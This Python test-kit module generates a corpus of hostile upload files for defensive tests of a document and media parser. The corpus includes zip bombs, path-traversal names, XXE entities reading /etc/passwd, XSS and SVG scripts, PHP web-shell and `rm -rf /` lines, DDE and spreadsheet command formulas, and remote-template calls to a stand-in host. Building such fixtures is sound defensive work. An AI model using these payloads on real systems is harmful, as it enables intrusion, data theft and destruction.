"""Some hundreds of files that were made to do harm, by sort; built when a test asks for them.

Each is (name, content). Nothing in them is large: what would be a bomb says so of itself, against
limits that the test sets low.
"""

import gzip
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache
from io import BytesIO

from tests.kit import hostile
from tests.kit.hostile_media import MEDIA, PICTURES
from tests.kit.hostile_names import NAMES
from tests.kit.hostile_pdfs import PDFS

File = tuple[str, bytes]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REMOTE = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdX" Type="{R}/attachedTemplate" Target="http://xau.example/x.dotm" TargetMode="External"/></Relationships>'  # noqa: E501
SCRIPT = "<script>alert(1)</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'
DOCTYPES = {
    "file": '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "http": '<!DOCTYPE x [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>',
    "laughs": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY x "&b;&b;&b;">]>',
    "parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]>',
    "outside": '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
}
# The part of each package in which an entity would be used, and what makes it that package.
PARTS = {
    "docx": "word/document.xml",
    "xlsx": "xl/workbook.xml",
    "pptx": "ppt/presentation.xml",
    "epub": "OPS/a.xhtml",
}


# Slides come through the same door as documents and sheets, and are slow to open.
KINDS = ("docx", "xlsx", "epub")


@cache
def parts_of(kind: str) -> dict[str, bytes]:
    """The entries of a small honest package."""
    out = BytesIO()
    if kind == "docx":
        from docx import Document

        made = Document()
        made.add_paragraph("Đề kiểm tra")
        made.save(out)
    elif kind == "xlsx":
        from openpyxl import Workbook

        book = Workbook()
        book.active.append(["Điểm", 9])
        book.save(out)
    elif kind == "pptx":
        from pptx import Presentation

        shown = Presentation()
        shown.slides.add_slide(shown.slide_layouts[5]).shapes.title.text = "Bài giảng"
        shown.save(out)
    else:
        chapter = hostile.CHAPTER.format(more="").encode()
        return {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": hostile.CONTAINER.encode(),
            "OPS/book.opf": hostile.OPF.format(
                href="a.xhtml", spine='<itemref idref="a"/>'
            ).encode(),
            "OPS/a.xhtml": chapter,
            "OPS/cover.png": hostile.png(8, 8),
        }
    with zipfile.ZipFile(out) as package:
        return {name: package.read(name) for name in package.namelist()}


@cache
def package(kind: str) -> bytes:
    return hostile.zipped(parts_of(kind))


def with_parts(kind: str, **changed: bytes | str) -> bytes:
    return hostile.zipped(parts_of(kind) | {k.replace("|", "/"): v for k, v in changed.items()})


def bombs() -> Iterator[File]:
    """Packages that would be too large unpacked, lie about their size, or hold packages."""
    zeros = b"\0" * (9 << 20)
    for kind in KINDS:
        yield f"to.{kind}", with_parts(kind, **{"bom.bin": zeros})
        yield f"trong.{kind}", with_parts(kind, **{"bom.zip": hostile.zipped({"b": zeros[:1000]})})
        inner = hostile.zipped({f"{n}.zip": package("docx")[:2000] for n in range(20)})
        yield f"nhieu-lop.{kind}", with_parts(kind, **{"bom.zip": inner})
        lying = with_parts(kind, **{"bom.bin": b"y" * 1_000_000})
        size, small = (1_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little")
        yield f"noi-doi.{kind}", lying.replace(size, small)
        huge = lying.replace(size, b"\xf0\xff\xff\xff")
        yield f"tu-khai.{kind}", huge
        yield f"chong.{kind}", overlapping(kind)


def overlapping(kind: str) -> bytes:
    """Many entries that are one and the same stretch of bytes."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts_of(kind).items():
            stored = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            made.writestr(name, content, compress_type=stored)
        made.writestr("bom.bin", b"\0" * 1_000_000)
        shared = made.infolist()[-1]
        for number in range(40):
            again = zipfile.ZipInfo(f"bom{number}.bin")
            for field in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(again, field, getattr(shared, field))
            made.filelist.append(again)
    return out.getvalue()


def containers() -> Iterator[File]:
    """Packages that are damaged, locked, packed in odd ways, or have something around them."""
    for kind in KINDS:
        whole = package(kind)
        yield f"cut.{kind}", whole[: len(whole) // 2]
        yield f"cut-end.{kind}", whole[:-30]
        yield f"junk-before.{kind}", b"#!/bin/sh\n" + whole
        yield f"junk-after.{kind}", whole + b"\0" * 3000 + b"<?php system($_GET[0]); ?>"
        yield f"locked.{kind}", flagged(whole, 6, 1)
        yield f"odd-method.{kind}", flagged(whole, 8, 99)
        middle = len(whole) // 3
        flipped = whole[:middle] + bytes(b ^ 0xFF for b in whole[middle : middle + 60])
        yield f"flipped.{kind}", flipped + whole[middle + 60 :]
        yield f"empty.{kind}", b"PK\x05\x06" + b"\0" * 18
        yield f"first-only.{kind}", whole[:4]


def flagged(whole: bytes, field: int, value: int) -> bytes:
    """Every entry with two bytes of its headers set (flags at 6, method at 8)."""
    made = bytearray(whole)
    for mark, offset in ((b"PK\x03\x04", field), (b"PK\x01\x02", field + 2)):
        at = made.find(mark)
        while at >= 0:
            struct.pack_into("<H", made, at + offset, value)
            at = made.find(mark, at + 4)
    return bytes(made)


def paths() -> Iterator[File]:
    """Names of entries that climb, hide, or belong to a device; links."""
    names = ("../../etc/cron.d/x", "/etc/passwd", "C:\\Windows\\x", "..\\..\\x", "CON", "a/" * 400,
             "x" * 2_000, "\u202excod.exe", "a\r\nb", ".htaccess")  # fmt: skip
    for kind in ("docx", "epub"):  # one door for all of Office, one for books
        for number, name in enumerate(names):
            yield f"ten-{number}.{kind}", with_parts(kind, **{name: "boo"})
        out = BytesIO(package(kind))
        with zipfile.ZipFile(out, "a") as made:
            link = zipfile.ZipInfo("link")
            link.external_attr = 0o120777 << 16
            made.writestr(link, "/etc/passwd")
            made.writestr("link/x", "boo")
        yield f"link.{kind}", out.getvalue()


def entities() -> Iterator[File]:
    """XML that reaches out, or grows."""
    for kind in KINDS:
        part = PARTS[kind]
        content = parts_of(kind)[part].decode()
        head = content.index("?>") + 2 if content.startswith("<?xml") else 0
        for sort, doctype in DOCTYPES.items():
            text = content[:head] + doctype + content[head:].replace("</", "&x;</", 1)
            yield f"{sort}.{kind}", with_parts(kind, **{part: text})
        both = '<?xml version="1.0" encoding="UTF-16"?>' + DOCTYPES["file"] + content[head:]
        yield f"utf16.{kind}", with_parts(kind, **{part: both.encode("utf-16")})
        deep = content[:head] + "<a>" * 5_000 + "</a>" * 5_000
        yield f"deep.{kind}", with_parts(kind, **{part: deep})
    for name in ("META-INF/container.xml", "OPS/book.opf"):
        content = parts_of("epub")[name].decode()
        end = content.index("?>") + 2
        for sort, doctype in DOCTYPES.items():
            changed = content[:end] + doctype + content[end:]
            yield f"{sort}-{len(name)}.epub", with_parts("epub", **{name: changed})


def markup() -> Iterator[File]:
    """Scripts in SVG and HTML, under their names and under others."""
    page = f"<!doctype html><html><head><title>x</title></head><body>{{}}{SCRIPT}</body></html>"
    for ending in ("svg", "png", "jpg", "html", "pdf", "txt", "docx", "epub", "srt", "mp4"):
        yield f"anh.{ending}", SVG.encode()
        yield f"trang.{ending}", page.format("Bài học").encode()
    bodies = (
        '<meta http-equiv="refresh" content="0;url=https://xau.example">', '<base href="//xau.vn">',
        '<iframe src="javascript:alert(1)"></iframe>', '<object data="data:text/html,x"></object>',
        '<img src=x onerror=alert(1)>', '<form action="https://xau.example"><input name=p></form>',
        "<div>" * 20_000, "<!-- " + "x" * 1_000, "<svg><style><img title='</style><script>'>",
        "<math><mtext><table><mglyph><style><img src onerror=alert(1)>", "a" * 100_000,
        '<a href="jAvaScript:alert(1)">x</a>', "<template><script>x</script></template>", "\0\0",
        "<plaintext>", "<xmp>", '<p style="background:url(//xau.example)">', "&#0;&#x110000;",
    )  # fmt: skip
    for number, body in enumerate(bodies):
        yield f"trang-{number}.html", page.format(body).encode()
    yield "utf7.html", b'<meta charset="utf-7"><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>'
    yield "utf16.html", page.format("x").encode("utf-16")
    yield "la.html", b'<meta charset="x-user-defined"><p>\xff\xfe\xfd</p>'
    yield "xhtml.xhtml", f'<html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>'.encode()


def two_things() -> Iterator[File]:
    """Files that open as more than one type."""
    pdf, archive, page = hostile.pdf(), hostile.zipped({"x.js": "alert(1)"}), SCRIPT.encode()
    picture, photo = PICTURES["png"], PICTURES["jpg"]
    php = b"<?php system($_GET['c']); ?>"
    comment = b"\xff\xfe" + struct.pack(">H", len(php) + 2) + php
    gif = b"GIF89a/*\0\0\0*/=1;alert(1)"
    yield "pdf-zip.pdf", pdf + archive
    yield "pdf-html.pdf", hostile.pdf(before=b"%PDF-1.4\n%<html>" + page + b"\n")
    yield "html-pdf.pdf", b"<html>" + page + pdf
    yield "html-pdf.html", b"<html>" + page + pdf
    yield "muon.pdf", b" " * 500 + pdf
    yield "exe.pdf", b"MZ" + b"\0" * 60 + pdf
    yield "gif-js.gif", gif
    yield "gif-js.txt", gif
    yield "php.jpg", photo[:2] + comment + photo[2:]
    yield "php-sau.jpg", photo + php
    yield "zip.jpg", photo + archive
    yield "html.png", picture + b"<html>" + page
    yield "zip.png", picture + archive
    yield "zip.mp3", MEDIA["mp3"] + archive
    yield "zip.wav", MEDIA["wav"] + archive
    yield "html.mp4", MEDIA["mp4"] + b"<html>" + page
    yield "pdf.mp4", MEDIA["mp4"] + pdf
    yield "docx.epub", hostile.zipped(parts_of("docx") | parts_of("epub"))
    yield "epub.docx", hostile.zipped(parts_of("docx") | parts_of("epub"))
    yield "xlsx.docx", hostile.zipped(parts_of("docx") | parts_of("xlsx"))
    yield "pptx.xlsx", hostile.zipped(parts_of("pptx") | parts_of("xlsx"))
    yield "pdf.docx", pdf + package("docx")
    yield "jar.docx", hostile.zipped(parts_of("docx") | {"META-INF/MANIFEST.MF": b"Main-Class: X"})


def wrong_names() -> Iterator[File]:
    """Contents under the name of something else, and programs under every name."""
    contents = {"pdf": hostile.pdf(), "docx": package("docx"), "png": PICTURES["png"]}
    endings = ("pdf", "docx", "xlsx", "pptx", "epub", "jpg", "txt", "html", "mp3", "mp4", "srt")
    for kind, content in contents.items():
        for ending in endings:
            if ending != kind:
                yield f"{kind}.{ending}", content
    programs = {
        "exe": b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + b"\0" * 300,
        "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 100,
        "class": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 100,
        "lnk": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 100,
        "rtf": b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}",
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "gz": gzip.compress(b"x" * 1000),
        "rar": b"Rar!\x1a\x07\x01\0" + b"\0" * 100,
    }
    for sort, content in programs.items():
        for ending in ("txt", "pdf", "docx", "mp4"):
            yield f"{sort}.{ending}", content


def texts() -> Iterator[File]:
    """Plain texts and captions with something in them."""
    cue = "1\n00:00:01,000 --> 00:00:02,000\n{}\n\n"
    yield "php.txt", b"<?php system($_GET[0]); ?>"
    yield "sh.txt", b"#!/bin/sh\nrm -rf /\n"
    yield "html.txt", f"Xin chao {SCRIPT} <img src=x onerror=alert(1)>".encode()
    yield "nul.txt", b"Xin\0chao"
    yield "dieu-khien.txt", b"Xin \x1b]0;x\x07\x1b[2J chao \x08\x08"
    yield "phai-sang-trai.txt", "Xin \u202e\u2066\u2069 chào\ufffe".encode()
    yield "the.txt", b"{{ 7*7 }} ${7*7} <%= 7*7 %> =cmd|'/c calc'!A1"
    yield "dai.txt", b"x" * 3_000_000
    yield "la.txt", bytes(range(1, 256)) * 10
    yield "script.srt", cue.format(SCRIPT + "<img src=x onerror=alert(1)>").encode()
    yield "script.vtt", f"WEBVTT\n\n00:01.000 --> 00:02.000\n<v {SCRIPT}>x".encode()
    yield (
        "style.vtt",
        b"WEBVTT\n\nSTYLE\n::cue{background:url(//xau.example)}\n\n00:01.000 --> 00:02.000\nx",
    )
    yield "gio.srt", b"1\n99:99:99,999 --> 00:00:00,000\nx\n"
    yield "am.srt", b"1\n-1:00:00,000 --> 00:00:02,000\nx\n"
    yield "nhieu.srt", (cue.format("x") * 21_000).encode()
    yield "nul.srt", cue.format("x\0y").encode()
    yield "utf16.srt", cue.format(SCRIPT).encode("utf-16")
    yield "khong.vtt", b"WEBVTT\n\n"
    yield "muitan.vtt", b"WEBVTT\n\n00:01.000 --> 00:02.000\n--> x --> \n\n--> \n"


def books() -> Iterator[File]:
    """EPUBs with scripts, remote parts, loops, and parts that are not there."""
    inside = (
        '<iframe src="http://xau.example"/>', '<p onclick="alert(1)">x</p>',
        '<a href="javascript:alert(1)">x</a>', '<img src="http://xau.example/a.png"/>',
        "<style>@import 'http://xau.example/a.css'; @font-face{src:url(file:///etc/passwd)}</style>",
        '<object data="a.swf"/>', SVG, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        'href="file:///etc/passwd" parse="text"/>', "<p>" + "x " * 1_500_000 + "</p>",
    )  # fmt: skip
    for number, more in enumerate(inside):
        chapter = hostile.CHAPTER.format(more=more)
        yield f"trong-{number}.epub", with_parts("epub", **{"OPS/a.xhtml": chapter})
    opf = parts_of("epub")["OPS/book.opf"].decode()
    container = hostile.CONTAINER
    changed = {
        "drm": {"META-INF/rights.xml": "<x/>"},
        "vong": {"OPS/book.opf": opf.replace('<itemref idref="a"/>', '<itemref idref="a"/>' * 900)},
        "thieu": {"OPS/book.opf": opf.replace("a.xhtml", "khong-co.xhtml")},
        "leo": {"OPS/book.opf": opf.replace("a.xhtml", "../../../etc/passwd")},
        "xa": {"OPS/book.opf": opf.replace("a.xhtml", "http://xau.example/a.xhtml")},
        "rong": {"META-INF/container.xml": "<container/>"},
        "goc": {"META-INF/container.xml": container.replace("OPS/book.opf", "../../etc/passwd")},
        "bia": {"OPS/cover.png": hostile.png(30_000, 30)},
        "bia-svg": {"OPS/cover.png": SVG},
        "khac": {"mimetype": b"application/x-evil"},
        "dai": {"mimetype": b"application/epub+zip" + b" " * 100},
    }
    for sort, parts in changed.items():
        yield f"{sort}.epub", hostile.zipped(parts_of("epub") | parts)  # type: ignore[operator]


def office() -> Iterator[File]:
    """Macros, fields, links and formulas; tables that never end."""
    document = parts_of("docx")["word/document.xml"].decode()
    types = parts_of("docx")["[Content_Types].xml"].decode()
    body = document.index("<w:body>") + 8
    macro = types.replace("wordprocessingml.document.main", "wordprocessingml.x")
    macro = macro.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.x+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    field = '<w:p><w:r><w:instrText>{}</w:instrText></w:r><w:fldSimple w:instr="{}"/></w:p>'
    nested = "<w:tbl><w:tr><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 60

    def word(more: str, **parts: bytes | str) -> bytes:
        changed = document[:body] + more + document[body:]
        return with_parts("docx", **{"word/document.xml": changed, **parts})

    yield "macro.docx", with_parts("docx", **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield (
        "docm.docx",
        with_parts(
            "docx", **{"[Content_Types].xml": macro, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
        ),
    )
    yield "mau-xa.docx", with_parts("docx", **{"word/_rels/settings.xml.rels": REMOTE})
    yield "ole.docx", with_parts("docx", **{"word/embeddings/oleObject1.bin": b"MZ" + b"\0" * 99})
    yield "dde.docx", word(field.format("DDEAUTO c:\\\\cmd.exe", "DDEAUTO calc"))
    runs = "</w:instrText></w:r><w:r><w:instrText>".join(("PAGE ", "DD", "EAUTO calc"))
    yield "dde-roi.docx", word(field.format(runs, "PAGE"))
    yield "trang.docx", word(field.format("PAGE", "DATE"))
    yield (
        "lien-ket.docx",
        with_parts(
            "docx", **{"word/_rels/x.xml.rels": REMOTE.replace("attachedTemplate", "hyperlink")}
        ),
    )
    yield "anh-xa.docx", word(field.format('INCLUDEPICTURE "http://xau.example/"', "x"))
    yield "chunk.docx", word('<w:altChunk r:id="rIdX"/>', **{"word/x.html": SCRIPT})
    yield "bang.docx", word(nested)
    yield "script.docx", word(f"<w:p><w:r><w:t>{SCRIPT.replace('<', '&lt;')}</w:t></w:r></w:p>")
    yield "khong-than.docx", with_parts("docx", **{"word/document.xml": f'<w:x xmlns:w="{W}"/>'})
    yield (
        "khong-quan-he.docx",
        hostile.zipped({k: v for k, v in parts_of("docx").items() if not k.endswith(".rels")}),
    )
    sheet = "xl/worksheets/sheet1.xml"
    rows = parts_of("xlsx")[sheet].decode()
    cells = (
        "<c r='A1' t='str'><f>cmd|'/c calc'!A0</f><v>9</v></c>",
        "<c r='A1'><f>WEBSERVICE(\"http://xau.example\")</f></c>", "<c r='A1' t='s'><v>-5</v></c>",
        "<c r='A1' t='s'><v>99999</v></c>", "<c r='XFD1048576'><v>1</v></c>",
        "<c r='ZZZZ9'><v>1</v></c>", "<c r='A1' t='d'><v>9999-99-99</v></c>",
        "<c r='A1' s='999'><v>1e400</v></c>", "<c r='A1' t='n'><v>NaN</v></c>",
        f"<c r='A1' t='inlineStr'><is><t>{SCRIPT.replace('<', '&lt;')}</t></is></c>",
    )  # fmt: skip
    for number, cell in enumerate(cells):
        start = rows.index("<sheetData>") + 11
        made = rows[:start] + f"<row r='1'>{cell}</row>" + rows[rows.index("</sheetData>") :]
        yield f"o-{number}.xlsx", with_parts("xlsx", **{sheet: made})
    yield "rong.xlsx", with_parts("xlsx", **{sheet: "<worksheet/>"})
    yield "macro.xlsx", with_parts("xlsx", **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "ngoai.xlsx", with_parts("xlsx", **{"xl/externalLinks/externalLink1.xml": "<x/>"})
    slide = "ppt/slides/slide1.xml"
    shown = parts_of("pptx")[slide].decode()
    yield (
        "chay.pptx",
        with_parts(
            "pptx",
            **{
                slide: shown.replace(
                    "<a:r>",
                    '<a:r><a:rPr><a:hlinkClick action="ppaction://program?name=cmd.exe"/></a:rPr>',
                    1,
                )
            },
        ),
    )
    yield "xa.pptx", with_parts("pptx", **{"ppt/slides/_rels/slide1.xml.rels": REMOTE})
    chart = REMOTE.replace("attachedTemplate", "oleObject")
    yield "bieu-do.pptx", with_parts("pptx", **{"ppt/charts/_rels/chart1.xml.rels": chart})
    yield "ole-xa.pptx", with_parts("pptx", **{"ppt/slides/_rels/slide1.xml.rels": chart})
    yield "thieu.pptx", hostile.zipped({k: v for k, v in parts_of("pptx").items() if k != slide})


def pictures() -> Iterator[File]:
    """Pictures that say they are huge, are damaged, or are none."""
    png, gif, jpg = PICTURES["png"], bytearray(PICTURES["gif"]), bytearray(PICTURES["jpg"])
    yield "rong.png", hostile.png(100_000, 3)
    for number, size in enumerate(((60_000, 60_000), (0, 0), (2**31 - 1, 1), (1, 2**31 - 1))):
        head = b"IHDR" + struct.pack(">II", *size) + png[24:29]
        yield f"khai-{number}.png", png[:12] + head + struct.pack(">I", zlib.crc32(head)) + png[33:]
    gif[6:10] = b"\xff\xff\xff\xff"
    yield "khai.gif", bytes(gif)
    at = jpg.index(b"\xff\xc0")
    jpg[at + 5 : at + 9] = b"\xff\xff\xff\xff"
    yield "khai.jpg", bytes(jpg)
    bomb = zlib.compress(b"x" * 5_000_000)
    text = b"zTXtk\0\0" + bomb
    chunk = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
    yield "chu.png", png[:33] + chunk + png[33:]
    yield "crc.png", png[:29] + b"\0\0\0\0" + png[33:]
    yield "anh.tiff", b"II*\0\x08\0\0\0" + b"\0" * 100
    yield "anh.bmp", b"BM" + b"\xff" * 100
    yield "anh.jpg", b"BM" + struct.pack("<IIIIiiHH", 99, 0, 54, 40, 60_000, 60_000, 1, 24)
    yield "anh.ico", b"\0\0\x01\0\x01\0" + b"\0" * 60
    yield "anh.eps.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n"
    yield "mvg.jpg", b'push graphic-context\nfill "url(https://xau.example/|ls)"\n'


def cut_short() -> Iterator[File]:
    """Honest files of every kind, cut off."""
    whole = PICTURES | MEDIA | {"pdf": hostile.pdf()}
    for kind, content in whole.items():
        for percent in (10, 60, 95):
            yield f"cut-{percent}.{kind}", content[: max(1, len(content) * percent // 100)]


def names() -> Iterator[File]:
    """A harmless text under hostile names."""
    for number, name in enumerate(NAMES):
        yield name, f"Bài số {number}.".encode()


def pdfs() -> Iterator[File]:
    """PDFs that loop, run something, or are broken."""
    for sort, content in PDFS.items():
        yield f"{sort}.pdf", content


SORTS = (bombs, containers, paths, entities, markup, two_things, wrong_names, texts, books, office,
         pictures, cut_short, names, pdfs)  # fmt: skip
